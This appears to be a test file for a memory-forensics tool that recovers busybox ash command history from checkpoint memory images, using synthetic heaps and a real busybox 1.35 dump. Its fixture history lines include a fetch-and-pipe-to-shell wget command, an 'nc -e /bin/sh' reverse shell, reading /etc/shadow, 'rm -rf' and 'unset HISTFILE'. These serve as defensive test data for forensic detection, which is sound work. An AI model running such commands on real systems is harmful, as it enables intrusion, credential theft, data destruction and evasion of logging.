/**
 * busybox ash's line-editing history on memory images built in code: busybox's `line_input_t`
 * (x86_64 layout, with and without FEATURE_EDITING_SAVEHISTORY) on an anonymous heap whose
 * page 4 is not in the checkpoint; a line split across two pages, a line pointer into the
 * absent page, a line being edited, an empty interactive state, and look-alikes that must not
 * be taken for one (in the binary's data, with a pointer outside every mapping, with a
 * non-NULL word past the entries, a state inside the absent page). And the heap of a real
 * busybox 1.35 ash (data/busybox-1.35-ash-heap.json says how it was taken), whose layout has
 * the get_exe_name hook and no history file.
 */
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { openMemory } from '../../../../src/lib/memory/open-memory.ts';
import { ashHistory } from '../../../../src/lib/analyses/history/busybox-ash.ts';
import { analyseHistory } from '../../../../src/lib/analyses/history/index.ts';
import { shellKind } from '../../../../src/lib/analyses/history/shells.ts';
import type { CheckpointModel } from '../../../../src/lib/model/types.ts';
import {
  FakeCheckpoint,
  PAGE,
  VMA_FILE_PRIVATE,
  decodeFake,
  pe,
  vma,
} from '../../memory/fake-checkpoint.ts';
import { PE_PRESENT } from '../../../../src/lib/memory/pagemap-index.ts';

const HEAP = 0x20000n;
const DATA = 0x10000n;
const ABSENT = HEAP + 4n * BigInt(PAGE);
/** DO_HISTORY | TAB_COMPLETION | USERNAME_COMPLETION | WITH_PATH_LOOKUP: what ash asks for. */
const ASH_FLAGS = 0x17;

/** One page of the binary's data (file-backed) and a 6-page heap whose page 4 is not dumped. */
class Image {
  readonly data = new Uint8Array(PAGE);
  readonly heap = new Uint8Array(6 * PAGE);
  #at(at: bigint): [Uint8Array, number] {
    return at >= HEAP ? [this.heap, Number(at - HEAP)] : [this.data, Number(at - DATA)];
  }
  u32(at: bigint, v: number): void {
    const [b, o] = this.#at(at);
    new DataView(b.buffer).setInt32(o, v, true);
  }
  u64(at: bigint, v: bigint): void {
    const [b, o] = this.#at(at);
    new DataView(b.buffer).setBigUint64(o, v, true);
  }
  str(at: bigint, s: string): void {
    const [b, o] = this.#at(at);
    b.set(new TextEncoder().encode(s + '\0'), o);
  }
  /** A line_input_t at `at`; `histFile` undefined = the layout without SAVEHISTORY. */
  state(
    at: bigint,
    o: {
      count: number;
      max: number;
      history: bigint[];
      histFile?: bigint;
      timeout?: number;
      pathLookup?: bigint;
      /** busybox 1.34+: the get_exe_name hook after path_lookup shifts the rest by 8. */
      getExeName?: bigint;
    },
  ): void {
    this.u32(at, ASH_FLAGS);
    this.u32(at + 4n, o.timeout ?? -1);
    this.u64(at + 8n, o.pathLookup ?? 0n);
    const c = o.getExeName === undefined ? at + 16n : at + 24n;
    if (o.getExeName !== undefined) this.u64(at + 16n, o.getExeName);
    this.u32(c, o.count);
    this.u32(c + 4n, o.count);
    this.u32(c + 8n, o.max);
    let slots = c + 16n;
    if (o.histFile !== undefined) {
      this.u32(c + 12n, 0);
      this.u64(c + 16n, o.histFile);
      slots = c + 24n;
    }
    o.history.forEach((p, i) => this.u64(slots + 8n * BigInt(i), p));
  }
  async memory() {
    const pages = new Uint8Array(6 * PAGE);
    pages.set(this.data, 0);
    pages.set(this.heap.subarray(0, 4 * PAGE), PAGE);
    pages.set(this.heap.subarray(5 * PAGE), 5 * PAGE);
    const ck = new FakeCheckpoint([
      {
        pid: 1,
        vmas: [
          vma(DATA, DATA + BigInt(PAGE), { status: VMA_FILE_PRIVATE, flags: 0x2 }),
          vma(HEAP, HEAP + 6n * BigInt(PAGE)),
        ],
        pagemap: [
          pe(DATA, 1, PE_PRESENT),
          pe(HEAP, 4, PE_PRESENT),
          pe(HEAP + 5n * BigInt(PAGE), 1, PE_PRESENT),
        ],
      },
    ]).raw('pages-1.img', pages.subarray(0, 6 * PAGE));
    return openMemory(ck.store(), { decode: decodeFake, parent: null });
  }
}

const STATE = HEAP + 0x100n;

/** An interactive ash: 4 entries (one split across pages 0/1, one in the absent page). */
function interactive(): Image {
  const img = new Image();
  img.state(STATE, {
    count: 4,
    max: 255,
    histFile: HEAP + 0x800n,
    pathLookup: HEAP + 0x900n,
    history: [HEAP + 0xa00n, HEAP + 0xff8n, ABSENT + 0x10n, HEAP + 0x1200n, HEAP + 0x1300n],
  });
  img.str(HEAP + 0x800n, '/root/.ash_history');
  img.str(HEAP + 0x900n, '/usr/sbin:/usr/bin:/sbin:/bin');
  img.str(HEAP + 0xa00n, 'id');
  img.str(HEAP + 0xff8n, 'wget -qO- http://198.51.100.7/x.sh | sh ✓');
  img.str(HEAP + 0x1200n, 'unset HISTFILE');
  img.str(HEAP + 0x1300n, 'rm -rf /tm'); // history[count]: being edited
  return img;
}

describe('busybox ash history on built images', () => {
  for (const windowSize of [undefined, PAGE]) {
    it(`reads line_input_t's history in order, windows of ${windowSize ?? 'default'} bytes`, async () => {
      const mem = await interactive().memory();
      const r = await ashHistory(mem, 1, [], windowSize ? { windowSize } : {});
      expect(r.order).toBe('history-list');
      expect(r.listAddress).toBe(STATE + 40n);
      expect(r.ashStates).toEqual([
        {
          address: STATE,
          saveHistory: true,
          getExeName: false,
          count: 4,
          max: 255,
          historyAddress: STATE + 40n,
          histFile: '/root/.ash_history',
          editedLine: 'rm -rf /tm',
        },
      ]);
      expect(r.entries.map((e) => [e.index, e.command, e.entryAddress, e.lineAddress])).toEqual([
        [1, 'id', STATE + 40n, HEAP + 0xa00n],
        [2, 'wget -qO- http://198.51.100.7/x.sh | sh ✓', STATE + 48n, HEAP + 0xff8n],
        [3, undefined, STATE + 56n, ABSENT + 0x10n],
        [4, 'unset HISTFILE', STATE + 64n, HEAP + 0x1200n],
      ]);
      expect(r.entries[2]).toMatchObject({ commandPartial: true });
      expect(r.entries[2]!.absent).toEqual([
        { what: 'line', address: ABSENT + 0x10n, kind: 'not-dumped' },
      ]);
      expect(r.entries.every((e) => e.timestamp === undefined)).toBe(true);
      const notes = r.notes.join('\n');
      expect(notes).toMatch(/being edited .*: rm -rf \/tm/);
      expect(notes).toMatch(/1 of its lines point into memory that is not in the checkpoint/);
      expect(notes).toMatch(/no time/);
    });
  }

  it('reads the layout built without SAVEHISTORY (history[] right after max_history)', async () => {
    const img = new Image();
    img.state(STATE, { count: 2, max: 16, timeout: 0, history: [HEAP + 0xa00n, HEAP + 0xb00n] });
    img.str(HEAP + 0xa00n, 'cat /etc/shadow');
    img.str(HEAP + 0xb00n, 'exit');
    const r = await ashHistory(await img.memory(), 1, []);
    expect(r.ashStates?.[0]).toMatchObject({
      saveHistory: false,
      getExeName: false,
      count: 2,
      max: 16,
    });
    expect(r.entries.map((e) => e.command)).toEqual(['cat /etc/shadow', 'exit']);
    expect(r.notes.join(' ')).toMatch(/built without saving history to a file/);
  });

  it('reads the 1.34+ layout (get_exe_name) with a history file', async () => {
    const img = new Image();
    img.state(STATE, {
      count: 1,
      max: 255,
      getExeName: DATA + 0x80n,
      histFile: HEAP + 0x800n,
      history: [HEAP + 0xa00n],
    });
    img.str(HEAP + 0x800n, '/root/.ash_history');
    img.str(HEAP + 0xa00n, 'nc -e /bin/sh 203.0.113.9 4444');
    const r = await ashHistory(await img.memory(), 1, []);
    expect(r.ashStates?.[0]).toMatchObject({
      saveHistory: true,
      getExeName: true,
      histFile: '/root/.ash_history',
      historyAddress: STATE + 48n,
    });
    expect(r.entries.map((e) => e.command)).toEqual(['nc -e /bin/sh 203.0.113.9 4444']);
  });

  it('reports an interactive state that holds no line yet, and no entry', async () => {
    const img = new Image();
    img.state(STATE, { count: 0, max: 255, histFile: HEAP + 0x800n, history: [] });
    img.str(HEAP + 0x800n, '/root/.ash_history');
    const r = await ashHistory(await img.memory(), 1, []);
    expect(r.entries).toEqual([]);
    expect(r.ashStates?.[0]).toMatchObject({ count: 0, histFile: '/root/.ash_history' });
    expect(r.notes.join(' ')).toMatch(/holds no history line/);
  });

  it('never takes look-alikes for a state', async () => {
    const img = new Image();
    // In the binary's data (file-backed), a perfect copy: not where xzalloc puts it.
    img.state(DATA + 0x100n, { count: 1, max: 8, histFile: 0n, history: [DATA + 0x400n] });
    img.str(DATA + 0x400n, 'echo from-data');
    // A history pointer outside every mapping.
    img.state(HEAP + 0x100n, { count: 1, max: 8, histFile: 0n, history: [0x7000_0000n] });
    // A non-NULL word past history[count] (+1): not lineedit's array.
    img.state(HEAP + 0x400n, {
      count: 1,
      max: 8,
      histFile: 0n,
      history: [HEAP + 0xa00n, 0n, HEAP + 0xb00n],
    });
    img.str(HEAP + 0xa00n, 'echo not-a-history');
    img.str(HEAP + 0xb00n, 'echo neither');
    // A line that is binary, not typed text.
    img.state(HEAP + 0x600n, { count: 1, max: 8, histFile: 0n, history: [HEAP + 0xc00n] });
    img.heap.set([0x41, 0x01, 0x02, 0x00], 0xc00);
    // An empty state without its history file name: a header and NULLs prove nothing.
    img.state(HEAP + 0x2000n, { count: 0, max: 255, histFile: 0n, history: [] });
    // A complete state inside the page that was not dumped: memory not in the checkpoint.
    img.state(ABSENT + 0x100n, { count: 1, max: 8, histFile: 0n, history: [HEAP + 0xd00n] });
    img.str(HEAP + 0xd00n, 'echo ghost-of-absent-memory');
    const r = await ashHistory(await img.memory(), 1, []);
    expect(r.ashStates).toBeUndefined();
    expect(r.entries).toEqual([]);
    expect(r.notes.join(' ')).toMatch(/no busybox line-editing state/);
  });

  it('runs for busybox shells only, and puts ash entries in the history result', async () => {
    expect(shellKind({ comm: 'sh', exe: '/bin/busybox', cmdline: ['/bin/sh', '-c', 'x'] })).toBe(
      'busybox-ash',
    );
    expect(shellKind({ comm: 'httpd', exe: '/bin/busybox', cmdline: ['httpd'] })).toBeUndefined();
    expect(shellKind({ comm: 'sleep', exe: '/bin/busybox' })).toBeUndefined();
    expect(shellKind({ comm: '-sh', exe: '/bin/busybox' })).toBe('busybox-ash');
    expect(shellKind({ comm: 'ash', exe: '/bin/ash' })).toBe('busybox-ash');
    const mem = await interactive().memory();
    const model = {
      processes: [{ pid: 1, comm: 'sh', exe: '/bin/busybox', cmdline: ['sh'] }],
      container: {},
      fsChanges: { deletedFiles: [] },
      ghostFiles: [],
    } as unknown as CheckpointModel;
    const h = await analyseHistory(model, mem);
    expect(h.processes).toHaveLength(1);
    expect(h.processes[0]).toMatchObject({ pid: 1, kind: 'busybox-ash', order: 'history-list' });
    expect(h.processes[0]!.entries).toHaveLength(4);
    // A command found in ash's history is anti-forensics like one found in bash's.
    expect(h.antiForensics).toEqual([
      { pid: 1, where: 'history of pid 1', what: 'unset HISTFILE', address: STATE + 64n },
    ]);
  });
});

describe('the heap of a real busybox 1.35 ash', () => {
  const here = path.dirname(fileURLToPath(import.meta.url));
  const doc = JSON.parse(
    fs.readFileSync(path.join(here, 'data/busybox-1.35-ash-heap.json'), 'utf8'),
  ) as {
    typed: string[];
    heap: { start: string; end: string; gzipBase64: string };
    mappings: { start: string; end: string; name: string }[];
  };

  /** The heap dumped; every other mapping (the binary, libc…) present but not dumped. */
  async function memory() {
    const heap = new Uint8Array(gunzipSync(Buffer.from(doc.heap.gzipBase64, 'base64')));
    const start = BigInt(doc.heap.start);
    const vmas = doc.mappings
      .filter((m) => m.name !== '[vsyscall]')
      .map((m) =>
        m.name === '[heap]'
          ? vma(BigInt(m.start), BigInt(m.end), { status: 0x1 | 0x200 | 0x20 })
          : vma(BigInt(m.start), BigInt(m.end), { status: VMA_FILE_PRIVATE, flags: 0x2 }),
      );
    const ck = new FakeCheckpoint([
      { pid: 1, vmas, pagemap: [pe(start, heap.length / PAGE, PE_PRESENT)] },
    ]).raw('pages-1.img', heap);
    return openMemory(ck.store(), { decode: decodeFake, parent: null });
  }

  it('gives the typed lines in order, and not the line left unentered', async () => {
    const r = await ashHistory(await memory(), 1, []);
    expect(r.entries.map((e) => e.command)).toEqual(doc.typed);
    expect(r.entries.every((e) => !e.absent && e.timestamp === undefined)).toBe(true);
    expect(r.ashStates).toHaveLength(1);
    expect(r.ashStates![0]).toMatchObject({
      saveHistory: false,
      getExeName: true,
      count: 5,
      max: 15,
    });
    expect(r.ashStates![0]!.editedLine).toBeUndefined();
    expect(r.listAddress).toBe(r.ashStates![0]!.address + 40n);
  });
});
